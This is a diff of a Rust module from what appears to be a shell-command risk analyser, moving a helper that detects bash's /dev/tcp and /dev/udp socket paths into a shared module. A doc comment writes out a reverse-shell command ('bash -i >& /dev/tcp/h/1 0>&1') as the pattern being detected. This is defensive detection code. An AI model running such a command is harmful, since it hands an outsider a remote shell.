@@ -1,7 +1,7 @@
 //! What comes from the network, or out of a decoder, and goes into something that runs it.
 
 use super::{Level, Reason, reason};
-use crate::shell::effects::{Effect, Kind, Place, canonical, effects, place_of};
+use crate::shell::effects::{Effect, Kind, Place, canonical, effects, is_socket, place_of};
 use crate::shell::parse::{Construct, How, Invocation, Redirect, Script};
 
 /// Where a stream comes from.
@@ -119,11 +119,6 @@ fn is_one_of(script: &Script, command: &Invocation, names: &[&str]) -> bool {
     let key = canonical(&key, script.dialect);
     let bare = key.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
     names.contains(&key.as_str()) || !bare.is_empty() && names.contains(&bare)
-}
-
-/// True for the names under which bash reaches another machine.
-pub(super) fn is_socket(text: &str) -> bool {
-    text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/")
 }
 
 /// True if a redirection of the command, or of what runs it, joins it to another machine: `bash -i >& /dev/tcp/h/1 0>&1`.
